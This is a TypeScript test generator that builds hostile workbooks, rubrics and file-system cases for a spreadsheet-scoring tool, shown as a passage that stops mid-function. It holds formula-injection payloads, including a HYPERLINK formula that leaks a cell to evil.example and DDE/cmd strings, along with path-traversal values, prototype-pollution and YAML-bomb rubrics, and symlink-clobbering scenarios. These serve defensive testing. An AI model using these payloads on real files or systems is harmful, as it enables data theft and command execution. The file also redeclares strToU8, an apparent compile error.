/**
 * The hostile-input generator: deterministically from a seed, at least 2,000
 * bad inputs of every kind issue 7 lists — broken and oversized workbooks,
 * every cell value shape in every column, names and text that try to escape
 * (formulas, paths, device names, controls, bidi marks), and rubrics (alias
 * bombs, deep nesting, 50 MB, prototype keys, encodings, YAML number forms).
 *
 * `generateCases(seed)` returns case descriptions (cheap); `materialise(c, dir)`
 * writes one case's input under `dir`. Heavy cases (zip bombs, a million rows,
 * a 50 MB rubric) are marked `heavy` and also run in a spawned process.
 */
import { strToU8, unzipSync, zipSync } from 'fflate';
import { execFileSync } from 'node:child_process';
import { link, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { colLetters, rawXlsx, sheetDataXml, sheetXml, type RawCell, type RawSheet } from './raw-xlsx.js';
import { mulberry32 } from '../../src/util/random.js';
import { must } from '../../src/util/must.js';

const strToU8 = (text: string): Uint8Array => new TextEncoder().encode(text);

export type CaseKind = 'workbook' | 'name' | 'rubric' | 'fs' | 'result' | 'output';

export interface HostileCase {
  id: string;
  kind: CaseKind;
  family: string;
  /** File name of the input inside the case folder. */
  file: string;
  /** Builds the input bytes (undefined for special file-system cases). */
  build?: () => Uint8Array | Promise<Uint8Array>;
  special?: 'directory' | 'symlink-loop' | 'dangling-symlink' | 'fifo' | 'dev-zero' | 'dev-urandom' | 'gbk-name';
  /** `result` cases: an edit of a real saved result (the runner scores the good station first). */
  editResult?: (r: Record<string, unknown>) => unknown;
  /** `output` cases: writes the inputs under `dir` and returns the argv, whose outputs aim at the inputs. */
  scenario?: (dir: string, shared: { rubric: string; goodSelf: string }) => Promise<string[]>;
  /** The total a correct reading gives: an accepted run with another total is silently wrong. */
  expectTotal?: number;
  /** The class of issue 15 this case belongs to (1–7), for the figures per class. */
  issueClass?: string;
  /** Input text that must never become a formula in an output workbook. */
  hostileText?: string[];
  /** Exit codes allowed by the documentation for this input. */
  expect: number[];
  /** Expensive or potentially hanging: also checked in a spawned process. */
  heavy?: boolean;
}

/** mulberry32: a tiny seeded PRNG (the project's one). */
export const rng = mulberry32;

// ── the good station the hostile ones are made from ────────────────────────
// The rubric is test/fixtures/rubrics/minimal.yaml: items 1.1 (tiers, 4), 1.2
// (choice, 2), 2.1 (deduction, 4), 2.2 (control).

export const ITEMS: { id: string; name: string; points: string; score: RawCell }[] = [
  { id: '1.1', name: '场所面积', points: '4', score: { t: 'n', v: '4' } },
  { id: '1.2', name: '牌匾', points: '2', score: { t: 'n', v: '1' } },
  { id: '2.1', name: '制度上墙', points: '4', score: { t: 'n', v: '3' } },
  { id: '2.2', name: '党组织', points: '0', score: { t: 'str', v: '是' } },
];

const s = (v: string): RawCell => ({ t: 'str', v });
const n = (v: string | number): RawCell => ({ t: 'n', v: String(v) });

export interface StationSpec {
  name?: RawCell | null;
  county?: RawCell | null;
  /** Overrides per item row: column → cell. Columns: id 0, name 1, points 2, score 3, note 4. */
  cells?: Record<string, Partial<Record<0 | 1 | 2 | 3 | 4, RawCell | null>>>;
  /** Blank rows inserted before the header. */
  headerOffset?: number;
  header?: (RawCell | null)[];
  extraRows?: (RawCell | null)[][];
  sheetName?: string;
}

/** A generic self-assessment sheet (station block, header, one row per item). */
export function stationRows(spec: StationSpec = {}): (RawCell | null)[][] {
  const rows: (RawCell | null)[][] = [];
  rows.push([s('站点名称'), spec.name === undefined ? s('城关镇社工站') : spec.name]);
  rows.push([s('所属县(市、区)'), spec.county === undefined ? s('甲县') : spec.county]);
  for (let i = 0; i < (spec.headerOffset ?? 0); i++) rows.push([]);
  rows.push(spec.header ?? [s('编号'), s('指标'), s('分值'), s('自评得分'), s('自评说明')]);
  for (const item of ITEMS) {
    const row: (RawCell | null)[] = [s(item.id), s(item.name), n(item.points), item.score, null];
    const o = spec.cells?.[item.id];
    if (o) for (const [k, v] of Object.entries(o)) row[Number(k)] = v ?? null;
    rows.push(row);
  }
  rows.push(...(spec.extraRows ?? []));
  return rows;
}

export function stationXlsx(spec: StationSpec = {}, more: RawSheet[] = []): Uint8Array {
  return rawXlsx([{ name: spec.sheetName ?? '自评表', rows: stationRows(spec) }, ...more]);
}

// ── texts that try to escape ───────────────────────────────────────────────

export const HOSTILE_TEXTS: string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-1+1',
  '=1+1',
  "=cmd|'/c notepad'!'A1'",
  '=WEBSERVICE("http://evil.example")',
  '\t=2+5',
  '\r=3+3',
  '../../etc/passwd',
  '..\\..\\Windows\\System32',
  'C:\\Windows\\x',
  '/etc/shadow',
  'CON',
  'NUL.xlsx',
  'com1',
  'LPT9.pdf',
  'a/b/c',
  'a\\b\\c',
  '城关镇\u0000社工站',
  '城关\u0007镇\u001b[31m红\u001b[0m',
  '\u202e社工站gpj.exe',
  '\u200f\u200e\u2067城关镇\u2069',
  '😀🏠 社工站 👨‍👩‍👧',
  '城'.repeat(300),
  'x'.repeat(300),
  '<script>alert(1)</script>',
  ']]><![CDATA[',
  '&amp;&lt;&#0;',
  '${process.exit(1)}',
  '%s%n%x',
  '  ',
  '.',
  '..',
  '~$城关镇',
  'stations/../../../x',
  'DDE("cmd";"/C calc";"!A0")',
  '\ufeff城关镇',
  '城关镇 ',
  'ﾌﾞﾗｯｸ',
];

/** The formula-looking fragments an output formula must never contain. */
export function formulaFragments(text: string): string[] {
  const t = text.replace(/^[\s=+\-@]+/, '');
  return /[(|!]/.test(t) ? [t.slice(0, 40)] : [];
}

// ── value shapes for "every exceljs value shape in every input column" ────

export const VALUE_SHAPES: { label: string; cell: RawCell | null }[] = [
  { label: 'empty', cell: null },
  { label: 'number', cell: n(3) },
  { label: 'negative', cell: n(-1) },
  { label: 'zero', cell: n(0) },
  { label: 'fraction', cell: n(0.30000000000000004) },
  { label: 'huge', cell: n('1e308') },
  { label: 'tiny', cell: n('5e-324') },
  { label: 'num-NaN', cell: { t: 'raw', xml: '<c r="{ref}"><v>NaN</v></c>' } },
  { label: 'num-Infinity', cell: { t: 'raw', xml: '<c r="{ref}"><v>Infinity</v></c>' } },
  { label: 'num-1e309', cell: { t: 'raw', xml: '<c r="{ref}"><v>1e309</v></c>' } },
  { label: 'num-empty-v', cell: { t: 'raw', xml: '<c r="{ref}"><v></v></c>' } },
  { label: 'num-garbage', cell: { t: 'raw', xml: '<c r="{ref}"><v>三</v></c>' } },
  { label: 'str-NaN', cell: s('NaN') },
  { label: 'str-Infinity', cell: s('Infinity') },
  { label: 'str-1e309', cell: s('1e309') },
  { label: 'str--0', cell: s('-0') },
  { label: 'str-comma', cell: s('1,5') },
  { label: 'str-fullwidth', cell: s('３') },
  { label: 'str-unit', cell: s('3分') },
  { label: 'str-hex', cell: s('0x10') },
  { label: 'str-space', cell: s('  3  ') },
  { label: 'str-empty', cell: s('') },
  { label: 'str-na', cell: s('不适用') },
  { label: 'str-yes', cell: s('是') },
  { label: 'str-long', cell: s('9'.repeat(100_000)) },
  { label: 'str-long-cjk', cell: s('很'.repeat(100_000)) },
  { label: 'bool-true', cell: { t: 'b', v: '1' } },
  { label: 'bool-false', cell: { t: 'b', v: '0' } },
  { label: 'error-NA', cell: { t: 'e', v: '#N/A' } },
  { label: 'error-DIV0', cell: { t: 'e', v: '#DIV/0!' } },
  { label: 'date', cell: { t: 'date', v: '45292' } },
  { label: 'date-iso', cell: { t: 'raw', xml: '<c r="{ref}" t="d"><v>2024-01-01T00:00:00Z</v></c>' } },
  { label: 'date-bad-iso', cell: { t: 'raw', xml: '<c r="{ref}" t="d"><v>not a date</v></c>' } },
  { label: 'formula-result', cell: { t: 'f', f: '1+2', v: '3' } },
  { label: 'formula-no-result', cell: { t: 'f', f: 'SUM(A1:A2)' } },
  { label: 'formula-str-result', cell: { t: 'f', f: '"3"', v: '3', ft: 'str' } },
  { label: 'formula-error', cell: { t: 'f', f: '1/0', v: '#DIV/0!', ft: 'e' } },
  { label: 'formula-hostile', cell: { t: 'f', f: 'HYPERLINK("http://evil.example","x")', v: 'x', ft: 'str' } },
  { label: 'shared-formula', cell: { t: 'raw', xml: '<c r="{ref}"><f t="shared" si="0" ref="{ref}">1+1</f><v>2</v></c>' } },
  { label: 'rich-text', cell: { t: 'rich', runs: ['3', ''] } },
  { label: 'rich-text-cjk', cell: { t: 'rich', runs: ['城关', '镇'] } },
  { label: 'shared-string-missing', cell: { t: 'raw', xml: '<c r="{ref}" t="s"><v>99999</v></c>' } },
  { label: 'shared-string-bad-index', cell: { t: 'raw', xml: '<c r="{ref}" t="s"><v>-1</v></c>' } },
  { label: 'unknown-type', cell: { t: 'raw', xml: '<c r="{ref}" t="zz"><v>3</v></c>' } },
  { label: 'entity', cell: { t: 'raw', xml: '<c r="{ref}" t="inlineStr"><is><t>&#0;&#xFFFFFF;&bogus;</t></is></c>' } },
  { label: 'ooxml-escape', cell: { t: 'raw', xml: '<c r="{ref}" t="inlineStr"><is><t>_x0000__xD800_</t></is></c>' } },
  { label: 'style-out-of-range', cell: { t: 'raw', xml: '<c r="{ref}" s="999999"><v>3</v></c>' } },
];

// ── rubrics ────────────────────────────────────────────────────────────────

export const MINIMAL_RUBRIC = `# A minimal rubric
id: test-rubric
title: 测试细则
version: "1"
total: 10
modules:
  - id: "1"
    name: 基础建设
    points: 6
    children:
      - id: "1.1"
        name: 场所面积
        points: 4
        scoring: { kind: tiers, unit: ㎡, tiers: [{ min: 60, points: 4 }, { min: 40, points: 2 }] }
      - id: "1.2"
        name: 牌匾
        points: 2
        scoring:
          kind: choice
          options:
            - { label: 门外醒目, points: 2 }
            - { label: 室内, points: 1 }
  - id: "2"
    name: 制度建设
    points: 4
    children:
      - id: "2.1"
        name: 制度上墙
        points: 4
        scoring: { kind: deduction, per: 1 }
      - id: "2.2"
        name: 党组织
        points: 0
        scoring: { kind: control }
stars:
  levels:
    - { level: 1, name: 一星级, minTotal: 6 }
    - { level: 2, name: 二星级, minTotal: 8 }
`;

const utf8 = (text: string) => strToU8(text);

function aliasBomb(levels: number, width: number): string {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let i = 1; i < levels; i++) lines.push(`a${i}: &a${i} [${Array.from({ length: width }, () => `*a${i - 1}`).join(', ')}]`);
  return `${lines.join('\n')}\n${MINIMAL_RUBRIC.replace(/^id:/m, `bomb: *a${levels - 1}\nid:`)}`;
}

function deepFlow(depth: number): string {
  return `id: deep\nmodules: ${'['.repeat(depth)}${']'.repeat(depth)}\n`;
}
function deepFlowMap(depth: number): string {
  return `id: deep\nmodules: ${'{a: '.repeat(depth)}1${'}'.repeat(depth)}\n`;
}
/** Block style: indented lines up to 2,000 deep (the text grows with depth²), then compact `- - - …` nesting. */
function deepBlock(depth: number): string {
  const lines = ['id: deep', 'modules:'];
  const indented = Math.min(depth, 2000);
  for (let i = 0; i < indented; i++) lines.push(`${' '.repeat(i + 1)}- children:`);
  lines.push(`${' '.repeat(indented + 1)}${'- '.repeat(depth - indented)}x`);
  return lines.join('\n') + '\n';
}

/** GBK bytes of a tiny rubric: 测试细则 = B2E2 CAD4 CFB8 D4F2. */
function gbkRubric(): Uint8Array {
  const head = utf8('id: gbk\ntitle: ');
  const title = new Uint8Array([0xb2, 0xe2, 0xca, 0xd4, 0xcf, 0xb8, 0xd4, 0xf2]);
  const tail = utf8(MINIMAL_RUBRIC.split('\n').slice(3).join('\n'));
  return concat(head, title, utf8('\n'), tail);
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((a, p) => a + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
}

const RUBRIC_EDITS: { family: string; edit: (t: string) => string | Uint8Array }[] = [
  { family: 'proto-top', edit: (t) => `__proto__: { polluted: true }\n${t}` },
  { family: 'proto-module', edit: (t) => t.replace('    name: 基础建设', '    name: 基础建设\n    __proto__: { total: 1 }') },
  { family: 'constructor-key', edit: (t) => t.replace('    name: 基础建设', '    name: 基础建设\n    constructor: { prototype: { x: 1 } }') },
  { family: 'prototype-key', edit: (t) => `prototype: 1\n${t}` },
  { family: 'proto-in-flow', edit: (t) => t.replace('{ min: 60, points: 4 }', '{ min: 60, points: 4, __proto__: { points: 9 } }') },
  { family: 'proto-merge', edit: (t) => `base: &b { __proto__: { a: 1 } }\n${t.replace('    name: 基础建设', '    name: 基础建设\n    <<: *b')}` },
  { family: 'duplicate-key', edit: (t) => t.replace('total: 10', 'total: 10\ntotal: 20') },
  { family: 'duplicate-id', edit: (t) => t.replace('id: "1.2"', 'id: "1.1"') },
  { family: 'tabs', edit: (t) => t.replace(/^ {4}/gm, '\t') },
  { family: 'tab-after-colon', edit: (t) => t.replace('total: 10', 'total:\t10') },
  { family: 'bom', edit: (t) => concat(new Uint8Array([0xef, 0xbb, 0xbf]), utf8(t)) },
  { family: 'double-bom', edit: (t) => concat(new Uint8Array([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), utf8(t)) },
  { family: 'crlf', edit: (t) => t.replace(/\n/g, '\r\n') },
  { family: 'cr-only', edit: (t) => t.replace(/\n/g, '\r') },
  { family: 'utf16le', edit: (t) => concat(new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from(t, 'utf16le'))) },
  { family: 'gbk', edit: () => gbkRubric() },
  { family: 'latin1-bytes', edit: (t) => concat(utf8(t), new Uint8Array([0x0a, 0x23, 0x20, 0xe9, 0xe8, 0x0a])) },
  { family: 'nul-byte', edit: (t) => t.replace('total: 10', 'total: 1\u00000') },
  { family: 'underscore-number', edit: (t) => t.replace('total: 10', 'total: 1_0') },
  { family: 'hex-number', edit: (t) => t.replace('total: 10', 'total: 0xA') },
  { family: 'octal-number', edit: (t) => t.replace('total: 10', 'total: 0o12') },
  { family: 'inf', edit: (t) => t.replace('total: 10', 'total: .inf') },
  { family: 'neg-inf', edit: (t) => t.replace('points: 4\n        scoring: { kind: deduction', 'points: -.inf\n        scoring: { kind: deduction') },
  { family: 'nan', edit: (t) => t.replace('total: 10', 'total: .nan') },
  { family: 'huge-number', edit: (t) => t.replace('total: 10', 'total: 1e309') },
  { family: 'string-number', edit: (t) => t.replace('total: 10', 'total: "10"') },
  { family: 'id-as-number', edit: (t) => t.replace(/id: "(\d+(?:\.\d+)?)"/g, 'id: $1') },
  { family: 'id-1.10', edit: (t) => t.replace('id: "1.2"', 'id: 1.10') },
  { family: 'id-1e3', edit: (t) => t.replace('id: "1.2"', 'id: 1e3') },
  { family: 'id-bool', edit: (t) => t.replace('id: "1.2"', 'id: yes') },
  { family: 'id-null', edit: (t) => t.replace('id: "1.2"', 'id: ~') },
  { family: 'id-date', edit: (t) => t.replace('id: "1.2"', 'id: 2024-01-01') },
  { family: 'tag-js', edit: (t) => t.replace('total: 10', 'total: !!js/function "function(){return 10}"') },
  { family: 'tag-binary', edit: (t) => t.replace('title: 测试细则', 'title: !!binary aGVsbG8=') },
  { family: 'tag-unknown', edit: (t) => t.replace('title: 测试细则', 'title: !evil 测试细则') },
  { family: 'tag-set', edit: (t) => t.replace('title: 测试细则', 'title: !!set { a, b }') },
  { family: 'multi-doc', edit: (t) => `${t}---\n${t}` },
  { family: 'empty', edit: () => '' },
  { family: 'only-comment', edit: () => '# nothing\n' },
  { family: 'scalar-root', edit: () => '42\n' },
  { family: 'list-root', edit: () => '- a\n- b\n' },
  { family: 'null-root', edit: () => '~\n' },
  { family: 'long-line', edit: (t) => t.replace('title: 测试细则', `title: ${'长'.repeat(1_000_000)}`) },
  { family: 'many-keys', edit: (t) => `${t}extra:\n${Array.from({ length: 20_000 }, (_, i) => `  k${i}: ${i}`).join('\n')}\n` },
  { family: 'many-modules', edit: (t) => t.replace('modules:\n', `modules:\n${Array.from({ length: 3000 }, (_, i) => `  - { id: "m${i}", name: 模块${i}, points: 0 }`).join('\n')}\n`) },
  { family: 'control-chars', edit: (t) => t.replace('title: 测试细则', 'title: "测试\\u0000\\u001b[31m细则\\u202e"') },
  { family: 'anchor-key', edit: (t) => t.replace('total: 10', '&k total: 10\n*k : 3') },
  { family: 'complex-key', edit: (t) => t.replace('total: 10', 'total: 10\n? [a, b]\n: c') },
  { family: 'unterminated', edit: (t) => t.replace('title: 测试细则', 'title: "测试细则') },
  { family: 'bad-indent', edit: (t) => t.replace('    name: 基础建设', '      name: 基础建设\n   points: 6') },
  { family: 'self-alias', edit: (t) => `a: &a [*a]\n${t}` },
  { family: 'undefined-alias', edit: (t) => t.replace('total: 10', 'total: *nope') },
  { family: 'merge-loop', edit: (t) => `x: &x { <<: *x }\n${t}` },
  { family: 'yaml11-bools', edit: (t) => t.replace('kind: control', 'kind: control\n        required: on') },
  { family: 'sum-mismatch', edit: (t) => t.replace('total: 10', 'total: 11') },
  { family: 'star-overlap', edit: (t) => t.replace('minTotal: 8', 'minTotal: 6') },
  { family: 'directives', edit: (t) => `%YAML 1.1\n%TAG ! tag:evil.example,2024:\n---\n${t}` },
];

// ── issue 15: nothing lost, nothing trusted (variants of each class) ───────

/** The good station's total under MINIMAL_RUBRIC (4 + 1 + 3, control met). */
export const GOOD_TOTAL = 8;

const SML = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** The good station with item 1.1's score cell (D4) given as raw XML. */
function withScoreCell(xml: string): Uint8Array {
  return stationXlsx({ cells: { '1.1': { 3: { t: 'raw', xml } } } });
}

/** The good station with its zip rewritten: `edit` gets the entries (name → text) and returns them. */
function rezipped(edit: (files: Record<string, string>) => Record<string, string>): () => Uint8Array {
  return () => {
    const files = Object.fromEntries(Object.entries(unzipSync(stationXlsx())).map(([k, v]) => [k, new TextDecoder().decode(v)]));
    return zipSync(Object.fromEntries(Object.entries(edit(files)).map(([k, v]) => [k, strToU8(v)])), { mtime: new Date('2024-01-01T00:00:00Z') });
  };
}

/** A zip with two entries of one name (fflate will not write one: an entry is renamed in place). */
function duplicateEntry(name: string, other: string, content: string): () => Uint8Array {
  return () => {
    const files = unzipSync(stationXlsx());
    files[other] = strToU8(content);
    const zip = Buffer.from(zipSync(files, { mtime: new Date('2024-01-01T00:00:00Z') }));
    const from = Buffer.from(other);
    for (let i = zip.indexOf(from); i >= 0; i = zip.indexOf(from, i + 1)) Buffer.from(name).copy(zip, i);
    return new Uint8Array(zip);
  };
}

function issue15Cases(add: (c: Omit<HostileCase, 'id'>) => void): void {
  const REFUSED = [2];
  const EITHER = [0, 2];
  // 4. strict xlsx: numbers Excel would refuse are refused, never read as a number.
  for (const v of ['2,5', '3_0', '4x', '0b1', '4 0', '1.2.3', '4e', '+-4', '.', '0x4', '４', '4..0'])
    add({
      kind: 'workbook',
      family: 'strict-number',
      issueClass: '4',
      file: `strict-number-${Buffer.from(v).toString('hex')}.xlsx`,
      build: () => withScoreCell(`<c r="{ref}"><v>${v}</v></c>`),
      expect: REFUSED,
    });
  // … and the valid spellings read exactly.
  for (const v of [' 4 ', '4.0', '+4', '4e0', '40E-1', '\n4\n'])
    add({
      kind: 'workbook',
      family: 'strict-number-valid',
      issueClass: '4',
      file: `strict-valid-${Buffer.from(v).toString('hex')}.xlsx`,
      build: () => withScoreCell(`<c r="{ref}"><v>${v}</v></c>`),
      expect: [0],
      expectTotal: GOOD_TOTAL,
    });
  // XML the scan cannot decide: the real value is read, or the file refused; never a guess.
  const xmlCases: [string, () => Uint8Array][] = [
    ['comment-hides-cell', () => stationXlsx({ cells: { '1.1': { 3: { t: 'raw', xml: '<!--<c r="{ref}"><v>0</v></c>--><c r="{ref}"><v>4</v></c>' } } } })],
    ['comment-in-cell', () => withScoreCell('<c r="{ref}"><!-- 0 --><v>4</v></c>')],
    ['cdata-number', () => withScoreCell('<c r="{ref}"><v><![CDATA[4]]></v></c>')],
    ['cdata-split-number', () => withScoreCell('<c r="{ref}"><v>4<![CDATA[]]></v></c>')],
    ['v-space-preserve', () => withScoreCell('<c r="{ref}"><v xml:space="preserve">4</v></c>')],
    ['v-space-preserve-padded', () => withScoreCell('<c r="{ref}"><v xml:space="preserve"> 4 </v></c>')],
    ['entity-number', () => withScoreCell('<c r="{ref}"><v>&#52;</v></c>')],
    [
      'prefixed-sheet',
      rezipped((f) => ({
        ...f,
        'xl/worksheets/sheet1.xml': f['xl/worksheets/sheet1.xml'].replace(/<(\/?)(worksheet|sheetData|row|c|v|is|t|f)\b/g, '<$1s:$2').replace(`xmlns="${SML}"`, `xmlns:s="${SML}"`),
      })),
    ],
    ['prefixed-workbook', rezipped((f) => ({ ...f, 'xl/workbook.xml': f['xl/workbook.xml'].replace(/<(\/?)(workbook|sheets|sheet)\b/g, '<$1ss:$2').replace(`xmlns="${SML}"`, `xmlns:ss="${SML}"`) }))],
    ['dotdot-target', rezipped((f) => ({ ...f, 'xl/_rels/workbook.xml.rels': f['xl/_rels/workbook.xml.rels'].replace('Target="worksheets/sheet1.xml"', 'Target="../xl/./worksheets/sheet1.xml"') }))],
    [
      'moved-sheet-part',
      rezipped((f) => {
        const out = {
          ...f,
          'xl/tables/自评.xml': f['xl/worksheets/sheet1.xml'],
          'xl/_rels/workbook.xml.rels': f['xl/_rels/workbook.xml.rels'].replace('Target="worksheets/sheet1.xml"', 'Target="/xl/tables/%E8%87%AA%E8%AF%84.xml"'),
        };
        delete (out as Record<string, string>)['xl/worksheets/sheet1.xml'];
        return out;
      }),
    ],
    ['commented-sheet', rezipped((f) => ({ ...f, 'xl/workbook.xml': f['xl/workbook.xml'].replace('<sheets>', '<sheets><!--<sheet name="假表" sheetId="9" r:id="rId1"/>-->') }))],
  ];
  for (const [family, build] of xmlCases) add({ kind: 'workbook', family: `xml-${family}`, issueClass: '4', file: `${family}.xlsx`, build, expect: EITHER, expectTotal: GOOD_TOTAL });
  add({
    kind: 'workbook',
    family: 'xml-custom-entity',
    issueClass: '4',
    file: 'custom-entity.xlsx',
    build: () =>
      rawXlsx([
        {
          name: '自评表',
          xml: `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY four "4">]><worksheet xmlns="${SML}"><sheetData>${sheetDataXml(stationRows({ cells: { '1.1': { 3: { t: 'raw', xml: '<c r="{ref}"><v>&four;</v></c>' } } } }))}</sheetData></worksheet>`,
        },
      ]),
    expect: REFUSED,
  });
  add({
    kind: 'workbook',
    family: 'zip-duplicate-sheet',
    issueClass: '4',
    file: 'duplicate-sheet-entry.xlsx',
    build: duplicateEntry('xl/worksheets/sheet1.xml', 'xl/worksheets/sheetX.xml', sheetXml({ name: 'x', rows: stationRows({ cells: { '1.1': { 3: n(0) } } }) })),
    expect: REFUSED,
  });
  add({
    kind: 'workbook',
    family: 'zip-duplicate-workbook',
    issueClass: '4',
    file: 'duplicate-workbook-entry.xlsx',
    build: duplicateEntry('xl/workbook.xml', 'xl/workbooX.xml', '<workbook/>'),
    expect: REFUSED,
  });
  // 5. dates without a zone: a t="d" date in the station block and as a score.
  add({
    kind: 'workbook',
    family: 'tz-station-date',
    issueClass: '5',
    file: 'tz-date.xlsx',
    build: () =>
      rawXlsx([{ name: '自评表', rows: [...stationRows().slice(0, 2), [s('填表日期'), { t: 'raw', xml: '<c r="{ref}" t="d"><v>2024-11-30T00:00:00</v></c>' }], ...stationRows().slice(2)] }]),
    expect: [0],
    expectTotal: GOOD_TOTAL,
  });
  add({
    kind: 'workbook',
    family: 'tz-impossible-date',
    issueClass: '5',
    file: 'tz-bad-date.xlsx',
    build: () => rawXlsx([{ name: '自评表', rows: [...stationRows().slice(0, 2), [s('填表日期'), { t: 'raw', xml: '<c r="{ref}" t="d"><v>2024-02-30</v></c>' }], ...stationRows().slice(2)] }]),
    expect: [0],
    expectTotal: GOOD_TOTAL,
  });
  // 7. misleading messages: an IRM-protected workbook, a macro workbook, a GBK file name.
  add({
    kind: 'workbook',
    family: 'irm-protected',
    issueClass: '7',
    file: 'irm.xlsx',
    build: () => {
      const b = cfb(false, 8192);
      b.set(new Uint8Array(Buffer.from('\u0006DataSpaces', 'utf16le')), 1024);
      b.set(new Uint8Array(Buffer.from('DRMEncryptedTransform', 'utf16le')), 2048);
      b.set(new Uint8Array(Buffer.from('EncryptedPackage', 'utf16le')), 3072);
      return b;
    },
    expect: REFUSED,
  });
  add({ kind: 'workbook', family: 'xlsm', issueClass: '7', file: '宏.xlsm', build: () => stationXlsx(), expect: [0], expectTotal: GOOD_TOTAL });
  add({
    kind: 'fs',
    family: 'gbk-name',
    issueClass: '7',
    file: Buffer.from([0xb3, 0xc7, 0xb9, 0xd8, 0xd5, 0xf2, 0x2e, 0x78, 0x6c, 0x73, 0x78]).toString('utf8'),
    special: 'gbk-name',
    expect: REFUSED,
  });
  add({ kind: 'rubric', family: 'cr-only-comments', issueClass: '7', file: 'cr-only-comments.yaml', build: () => utf8(`# 注释\r# 第二行\r${MINIMAL_RUBRIC.replace(/\n/g, '\r')}`), expect: [0] });
  add({
    kind: 'rubric',
    family: 'mixed-line-ends',
    issueClass: '7',
    file: 'mixed-line-ends.yaml',
    build: () =>
      utf8(
        MINIMAL_RUBRIC.split('\n')
          .map((l, i) => l + ['\n', '\r', '\r\n'][i % 3])
          .join(''),
      ),
    expect: [0],
  });
  // 3. inputs that never end.
  if (process.platform !== 'win32') {
    for (const special of ['fifo', 'dev-zero', 'dev-urandom'] as const) {
      add({ kind: 'fs', family: `never-ends-${special}`, issueClass: '3', file: `${special}.xlsx`, special, expect: REFUSED });
      add({ kind: 'rubric', family: `never-ends-${special}`, issueClass: '3', file: `${special}.yaml`, special, expect: [2] });
      add({ kind: 'result', family: `never-ends-${special}`, issueClass: '3', file: `${special}.json`, special, expect: [2] });
    }
  }
  // 6. hand-edited results.
  const edits: [string, (r: Record<string, unknown>) => unknown, number[]][] = [
    ['item-self-text', (r) => (((r.items as Record<string, unknown>[])[0].self = 'abc'), r), [2]],
    ['item-final-object', (r) => (((r.items as Record<string, unknown>[])[1].final = { v: 1 }), r), [2]],
    ['total-string', (r) => ((r.total = '8'), r), [2]],
    ['total-huge', (r) => ((r.total = 1e308 * 10), r), [2]],
    ['modules-null', (r) => ((r.modules = null), r), [2]],
    ['items-missing', (r) => (delete r.items, r), [2]],
    ['stars-text', (r) => ((r.stars = '五星'), r), [2]],
    ['status-unknown', (r) => (((r.items as Record<string, unknown>[])[0].status = 'great'), r), [2]],
    ['sha-short', (r) => (((r.rubric as Record<string, unknown>).sha256 = 'abc'), r), [2]],
    ['format-future', (r) => ((r.formatVersion = 99), r), [2]],
    ['array-root', () => [], [2]],
    ['rubric-file-passwd', (r) => (((r.rubric as Record<string, unknown>).file = '/etc/passwd'), r), [2]],
    ['rubric-file-other-yaml', (r) => (((r.rubric as Record<string, unknown>).file = '../secret.yaml'), r), [1, 2]],
    ['rubric-file-traversal', (r) => (((r.rubric as Record<string, unknown>).file = '../../../../../../etc/hostname.yaml'), r), [2]],
    // Valid, but the copy no longer lies beside the rubric it names: refused as "rubric not found" (2) unless found.
    ['extra-field', (r) => ((r.comment = '手工加的备注'), r), [0, 1, 2]],
  ];
  for (const [family, editResult, expect] of edits) add({ kind: 'result', family: `result-${family}`, issueClass: '6', file: `${family}.json`, editResult, expect: [...new Set([...expect, 1])] });
  // 1. outputs aimed at inputs (and 2. at places that cannot be written).
  const scenarios: [string, string, (dir: string, sh: { rubric: string; goodSelf: string }) => Promise<string[]>][] = [
    [
      '1',
      'pdf-symlink-to-rubric',
      async (d, sh) => (
        await copy(sh.rubric, path.join(d, 'r.yaml')),
        await symlink(path.join(d, 'r.yaml'), path.join(d, '报告.pdf')),
        ['score', path.join(d, 'r.yaml'), '--self', sh.goodSelf, '--pdf', path.join(d, '报告.pdf'), '-q']
      ),
    ],
    [
      '1',
      'xlsx-onto-self-dotted',
      async (d, sh) => (await copy(sh.goodSelf, path.join(d, 's.xlsx')), ['score', sh.rubric, '--self', path.join(d, 's.xlsx'), '--xlsx', path.join(d, 'x', '..', 's.xlsx'), '-q']),
    ],
    [
      '1',
      'json-onto-hardlink-of-rubric',
      async (d, sh) => (
        await copy(sh.rubric, path.join(d, 'r.yaml')),
        await link(path.join(d, 'r.yaml'), path.join(d, 'r.json')),
        ['score', path.join(d, 'r.yaml'), '--self', sh.goodSelf, '--json', path.join(d, 'r.json'), '-q']
      ),
    ],
    [
      '1',
      'out-folder-link-to-self',
      async (d, sh) => (
        await mkdir(path.join(d, 'in')),
        await copy(sh.goodSelf, path.join(d, 'in', '甲县良好站点社工站-评估报告.xlsx')),
        await symlink(path.join(d, 'in'), path.join(d, 'out-link')),
        ['score', sh.rubric, '--self', path.join(d, 'in', '甲县良好站点社工站-评估报告.xlsx'), '--out', path.join(d, 'out-link'), '-q']
      ),
    ],
    [
      '1',
      'batch-out-is-in',
      async (d, sh) => (
        await mkdir(path.join(d, 'in')),
        await copy(sh.goodSelf, path.join(d, 'in', '汇总.xlsx')),
        ['batch', sh.rubric, path.join(d, 'in'), '--out', path.join(d, 'in'), '--jobs', '1', '--no-progress', '--no-pdf']
      ),
    ],
    [
      '1',
      'batch-out-contains-in',
      async (d, sh) => (
        await mkdir(path.join(d, 'all', 'in'), { recursive: true }),
        await copy(sh.goodSelf, path.join(d, 'all', 'in', 'a.xlsx')),
        await copy(sh.goodSelf, path.join(d, 'all', '汇总.xlsx')),
        ['batch', sh.rubric, path.join(d, 'all', 'in'), '--out', path.join(d, 'all'), '--jobs', '1', '--no-progress', '--no-pdf']
      ),
    ],
    [
      '1',
      'batch-previous-in-out',
      async (d, sh) => (
        await mkdir(path.join(d, 'in')),
        await mkdir(path.join(d, 'o')),
        await copy(sh.goodSelf, path.join(d, 'in', 'a.xlsx')),
        await writeFile(path.join(d, 'o', 'results.jsonl'), '{"last":"year"}\n'),
